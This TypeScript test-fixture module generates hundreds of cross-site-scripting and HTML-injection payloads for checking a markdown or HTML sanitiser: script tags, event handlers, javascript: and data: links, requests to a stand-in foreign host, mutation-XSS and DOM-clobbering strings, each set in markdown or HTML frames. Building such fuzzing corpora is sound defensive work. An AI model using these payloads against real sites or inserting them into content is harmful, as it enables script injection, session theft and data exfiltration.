// Markup that would run scripts, send requests or break out if it were not sanitised. Each calls `pwned(n)` or `alert(n)`, or
// fetches from a foreign host; `n` is the number of the payload.

const elsewhere = 'http://elsewhere.invalid';

const scripts = (run: string, n: number) => [
  `<script>${run}</script>`,
  `<SCRIPT/x>${run}</SCRIPT >`,
  `<script src="${elsewhere}/${n}.js"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</script><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}" /></svg>`,
  `<script type=module>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `"};${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `<!--<script>--><script>${run}</script>`,
  `\u2028</script ><script>${run}//\u2029`,
];

const handlers = (run: string, n: number) => [
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}" alt="${n}"/>`,
  `<IMG """><img/src=x/onerror=${run}//">`,
  `<img\nsrc=x\tonerror\n=\n${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}/>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run} tabindex=1>x</button>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<iframe onload=${run}></iframe>`,
  `<object data=x onerror=${run}></object>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<p onpointerrawupdate=${run} style="animation:a" onanimationstart=${run}>x</p>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
];

const addresses = (run: string, n: number) => [
  `<a href="javascript:${run}">${n}</a>`,
  `<a href=" \u0001java\tscript:${run}">${n}</a>`,
  `<a href="&#106;avascript&colon;${run}">${n}</a>`,
  `[${n}](javascript:${run})`,
  `[${n}](java&#x0A;script:${run})`,
  `[${n}](&#106;avascript:${run})`,
  `[${n}](<javascript:${run}>)`,
  `[${n}](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoMSk8L3NjcmlwdD4=)`,
  `[${n}](vbscript:${run})`,
  `[${n}][j]\n\n[j]: javascript:${run}`,
  `<javascript:${run}>`,
  `![${n}](javascript:${run})`,
  `![${n}](x"onerror="${run})`,
  `[${n}](x "onmouseover=${run} x=")`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>${n}</text></a></svg>`,
  `<math><a xlink:href="javascript:${run}">${n}</a></math>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//"><a href="/x">${n}</a>`,
];

const requests = (_run: string, n: number) => [
  `<img src="${elsewhere}/${n}">`,
  `![${n}](${elsewhere}/${n})`,
  `![${n}](//elsewhere.invalid/${n} "x")`,
  `![${n}][i]\n\n[i]: ${elsewhere}/${n}`,
  `<img srcset="${elsewhere}/${n} 1x">`,
  `<picture><source srcset="${elsewhere}/${n}"><img></picture>`,
  `<video poster="${elsewhere}/${n}" autoplay src="${elsewhere}/${n}.mp4"></video>`,
  `<style>@import '${elsewhere}/${n}';</style>`,
  `<div style="background:url(${elsewhere}/${n})">x</div>`,
  `<link rel=stylesheet href="${elsewhere}/${n}">`,
  `<link rel=preload as=image href="${elsewhere}/${n}">`,
  `<link rel=dns-prefetch href="${elsewhere}">`,
  `<input type=image src="${elsewhere}/${n}">`,
  `<svg><image href="${elsewhere}/${n}"/><use href="${elsewhere}/${n}#a"/></svg>`,
  `<iframe src="${elsewhere}/${n}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/${n}">`,
  `<table background="${elsewhere}/${n}"><tr><td>x</table>`,
];

// What a parser reads differently the second time, and names that clobber the page's own.
const mutations = (run: string, n: number) => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<?xml ?><img src=x onerror=${run}>`,
  `<table><td><svg><desc><table><img src=x onerror=${run}></table></desc></svg>`,
  `&lt;img src=x onerror=${run}&gt;<img src=x onerror=${run}`,
  `<a id=carecommons name=trustedTypes href="cid:${run}">x</a><img src=x onerror=${run}>`,
  `<form id=document name=body><input name=attributes><input name=createElement></form><img src=x onerror=${run}>`,
  `<img name=getElementById><img id=root src=x onerror=${run}>`,
  `<iframe name=localStorage srcdoc="<a id=access>${n}"></iframe><svg onload=${run}>`,
];

const families = [scripts, handlers, addresses, requests, mutations];

const frames: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `> ${payload}`,
  (payload) => `- a\n\n  - ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `| a |\n|---|\n| ${payload.replaceAll('\n', ' ')} |`,
  (payload) => `[^1]\n\n[^1]: ${payload}`,
  (payload) => `[${payload}](https://example.org "${payload}")`,
  (payload) => `![${payload}](x)`,
  (payload) => `<div><p><b>${payload}`,
  (payload) => `"><b x="${payload}`,
  (payload) => `'>${payload}<!--`,
  (payload) => `-->${payload}`,
  (payload) => `\`\`\`html\n${payload}`,
  (payload) => `\`${payload}`,
  (payload) => payload.slice(0, -1),
  (payload) => payload.replaceAll('<', '<<'),
  (payload) => payload.replaceAll('>', '\n>\n'),
  (payload) => `</p></div></main>${payload}`,
  (payload) => `${'<div>'.repeat(20)}${payload}`,
  (payload) => `<https://example.org/${payload}>`,
  (payload) => payload.replaceAll('=', ' = '),
];

/** A number of different payloads, of every family in every frame; the same each time. */
export function hostileMarkup(count: number): string[] {
  const sizes = families.map((family) => family('', 0).length);
  const kinds = sizes.reduce((sum, size) => sum + size, 0) * frames.length;
  return Array.from({ length: count }, (_, n) => {
    // A step that is coprime to their number visits each of them before any of them twice.
    let kind = (n * 7919) % kinds;
    const frame = frames[kind % frames.length] as (typeof frames)[number];
    kind = Math.floor(kind / frames.length);
    let family = 0;
    while (kind >= (sizes[family] as number)) kind -= sizes[family++] as number;
    const run = n < kinds ? `pwned(${n})` : `alert(${n})`;
    return frame((families[family] as (typeof families)[number])(run, n)[kind] as string);
  });
}
